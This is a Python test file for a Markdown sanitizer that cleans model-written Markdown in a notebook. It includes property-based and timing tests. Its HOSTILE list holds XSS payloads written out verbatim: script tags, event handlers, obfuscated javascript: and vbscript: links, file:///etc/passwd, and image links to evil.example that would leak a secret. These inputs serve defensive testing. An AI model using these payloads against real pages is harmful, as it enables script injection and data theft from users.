"""Z-02: a model's Markdown in a notebook, whose own outputs are trusted to run scripts.

Held against a real CommonMark parser with raw HTML on and every kind of link allowed, so
that nothing but `safe_markdown` stands between the text and the page.
"""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pi_nb.html import safe_markdown

_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_PARSER.validateLink = lambda _url: True  # type: ignore[method-assign]

# What Markdown itself makes of text, and nothing that runs, loads or frames.
TAGS = frozenset({"p", "em", "strong", "s", "a", "code", "pre", "ul", "ol", "li", "blockquote"})
TAGS |= {"h1", "h2", "h3", "h4", "h5", "h6", "hr", "br"}
TAGS |= {"table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = frozenset({"href", "title", "class", "start", "style"})
_DROPPED = re.compile(r"[\x00-\x20\x7f-\x9f]")
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:")
_ALLOWED = re.compile(r"https?://|mailto:|data:image/(?:png|jpeg|gif|webp);base64,")


class Page(HTMLParser):
    """What a browser would find: its text, its links, and what should not be there."""

    def __init__(self, markdown: str) -> None:
        super().__init__(convert_charrefs=True)
        self.odd: list[object] = []
        self.tags: list[str] = []
        self.links: list[str] = []
        self.text = ""
        self.markup = _PARSER.render(safe_markdown(markdown))
        self.feed(self.markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in TAGS:
            self.odd.append(tag)
        for name, value in attrs:
            self._attribute(name, value or "")

    def _attribute(self, name: str, value: str) -> None:
        if name not in ATTRIBUTES or (name == "style" and not value.startswith("text-align:")):
            self.odd.append((name, value))
        if name == "href":
            self.links.append(value)
            address = _DROPPED.sub("", value).lower()
            if _SCHEME.match(address) and not _ALLOWED.match(address):
                self.odd.append((name, value))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        if data.strip():
            self.odd.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.odd.append(("declaration", decl))

    def handle_pi(self, data: str) -> None:
        self.odd.append(("instruction", data))


SCRIPT = "<script>alert(1)</script>"
HOSTILE = [
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<!-- --><iframe src=//evil.example>",
    "<?php ?><!DOCTYPE x><![CDATA[x]]>",
    "![p](http://evil.example/?secret)",
    "![p][r]\n\n[r]: http://evil.example/p.png",
    "\\![p](http://evil.example/p.png)",
    "`a ![p](http://evil.example/p.png)",
    "[a](javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](\n  javascript:x)",
    "[a](JaVa&#115;cript&colon;x)",
    "[a](java&Tab;script:x)",
    "[a](javascript\\:x)",
    "[a](java\u200bscript:x)",
    "[a](vbscript:x)",
    "[a](data:text/html,x)",
    "[a](file:///etc/passwd)",
    "[r]\n\n[r]: javascript:x",
    "[r]\n\n[r]:\n<javascript:x>",
    "> [r]:\n> javascript:x\n>\n> [r]",
    "- [r]\n\n  [r]: javascript:x",
    "[r]\n\n[r]: data:text/html,x 'title'",
    "<javascript:alert(1)>",
    "[![p](http://evil.example/p.png)](javascript:x)",
    # A parser and we must agree where code ends.
    f"~~~ a`b\n```\nx\n~~~\n{SCRIPT}\n```",
    f"```a`b\n{SCRIPT}\n```",
    f"```\nx\n    ```\n{SCRIPT}\n```",
    f"- ```\n  x\n{SCRIPT}\n  ```",
    f"> ```\n> x\n{SCRIPT}\n> ```",
    f"> - ~~~\n>   x\n\n{SCRIPT}",
    f"1. a\n\n       ```\n{SCRIPT}",
    f"\\`{SCRIPT}`",
    f"``{SCRIPT}`",
    f"`a\n\n{SCRIPT}`",
    f"``` `` {SCRIPT} ``` ``",
    f"| `a | {SCRIPT}` |\n|-|-|\n| `b | {SCRIPT}` |",
    f"    `\n{SCRIPT}`",
    f"[a`](x){SCRIPT}`",
    f"~~~\n{SCRIPT}\n~~~\n{SCRIPT}",
    "=```\n``` `<b>`\n~~~\n<!DOCTYPE x>",
    f"```a `<b>`\n~~~\n{SCRIPT}\n~~~",
    f"```a `<b>`\n```\n{SCRIPT}\n```",
    f"- ```a `<b>`\n  ```\n{SCRIPT}\n  ```",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_of_a_hostile_text_runs_or_loads(source: str) -> None:
    assert Page(source).odd == []


_MARKS = ["`", "``", "```", "````", "~~~", "~~~~", "~~~ a`b\n", "```py\n", "[", "](", "]:", "]: "]
_MARKS += ["![", "!", "<", ">", ")", "\\", "*", "_", "|", "$", "&", ";", "&lt;", "&#33;", "&#x6A;"]
_CONTAINERS = ["\n", "\n\n", "\n> ", "\n>", "\n- ", "\n  ", "\n    ", "\n1. ", "\n\t", "\n# "]
_CONTAINERS += [" ", "    ", "> ", "- ", "\t", "\r", "\r\n", "\x00", "\x0b", "\u2028", "\u200b"]
_pieces = st.one_of(
    st.sampled_from(HOSTILE + _MARKS),
    st.sampled_from(_MARKS + _CONTAINERS),
    st.sampled_from(["javascript:x", "a", "b c", "|-|-|\n", "---\n", "http://a", "x]: ", "[x]"]),
)


@settings(max_examples=400)
@given(st.lists(_pieces, max_size=14).map("".join))
@example("[](<>:)")
def test_no_mix_of_marks_runs_or_loads_anything(source: str) -> None:
    assert Page(source).odd == []


@given(st.lists(_pieces, max_size=6).map("".join), st.lists(_pieces, max_size=6).map("".join))
def test_two_texts_that_are_safe_alone_are_safe_one_after_another(one: str, two: str) -> None:
    """A cell shows several blocks in one Markdown output."""
    page = _PARSER.render(f"{safe_markdown(one)}\n\n{safe_markdown(two)}")

    assert "<script" not in page
    assert "<img" not in page


# --- what is meant well ----------------------------------------------------------------------


def test_ordinary_markdown_is_as_it_was() -> None:
    source = (
        "# Title\n\nSome *text* with [a link](https://example.org/a?b=1) and `code`.\n\n"
        "```python\nif a < b:\n    print('&')\n```\n\n"
        "- one\n- two\n  - deep\n\n1. first\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )

    assert _PARSER.render(safe_markdown(source)) == _PARSER.render(source)


def test_links_inside_a_page_and_to_files_of_the_project_are_kept() -> None:
    page = Page("[a](#part) [b](src/a.py) [c](mailto:ada@example.org) [d](/x?y=a:b)")

    assert page.links == ["#part", "src/a.py", "mailto:ada@example.org", "/x?y=a:b"]


@pytest.mark.parametrize(
    "source",
    ["a < b && c > d", "List<int> and &amp;", "x <- y", "if (a<b) { }"],
)
def test_signs_in_text_and_in_code_can_be_read(source: str) -> None:
    shown = source.replace("&amp;", "&")
    assert Page(source).text.strip() == shown
    assert Page(f"`{source}`").text.strip() == source
    assert Page(f"```\n{source}\n```").text.strip() == source
    assert "code" in Page(f"`{source}`").tags


@pytest.mark.parametrize(
    ("source", "code"),
    [
        ("1. Do:\n   ```py\n   if a < b:\n       c\n   ```", "if a < b:\n    c\n"),
        ("1. ```sh\n   ls <x\n     y\n   ```\n2. b", "ls <x\n  y\n"),
        ("- x\n  - y\n\n    ```py\n    a < b\n    ```", "a < b\n"),
        ("> ```py\n> a < b\n>   c\n> ```\n> said", "a < b\n  c\n"),
        ("```\nnever closed <b>", "never closed <b>\n"),
        ("~~~md\n```\n<b>\n```\n~~~", "```\n<b>\n```\n"),
    ],
    ids=["list", "item", "deep list", "quote", "open", "nested"],
)
def test_a_fence_is_code_wherever_it_stands_without_its_margin(source: str, code: str) -> None:
    page = Page(source)

    assert "pre" in page.tags
    assert code in page.text


def test_what_follows_a_quoted_fence_that_was_never_closed_is_text_again() -> None:
    page = Page("> ```\n> a\n\n# Title")

    assert "h1" in page.tags


def test_a_picture_becomes_a_link_that_loads_nothing() -> None:
    page = Page("![chart](https://example.org/c.png)")

    assert page.links == ["https://example.org/c.png"]
    assert page.text.strip() == "!chart"


# --- time ---------------------------------------------------------------------------------------

PIECES = ["`", "``` ", "`a``b```", "```\n", "~~~a\n", "[", "](", "](<", "[a](", "]: ", "![", "<"]
PIECES += [
    "\\",
    "\n",
    " ",
    "\t\n",
    "> ",
    ">",
    "\n> ```",
    "- ",
    "\n \n",
    "&",
    "&#",
    "](&",
    "a\r",
    ":",
]


def _seconds(piece: str, size: int) -> float:
    source = piece * (size // len(piece))
    begun = time.perf_counter()
    safe_markdown(source)
    return time.perf_counter() - begun


@pytest.mark.parametrize("piece", PIECES)
def test_ten_times_the_text_takes_about_ten_times_as_long(piece: str) -> None:
    small = min(_seconds(piece, 20_000) for _ in range(2))

    assert _seconds(piece, 200_000) < max(40 * small, 0.5)


@pytest.mark.slow
@pytest.mark.parametrize("piece", PIECES)
def test_a_megabyte_of_the_same_mark_is_done_in_seconds(piece: str) -> None:
    assert _seconds(piece, 1_000_000) < 10
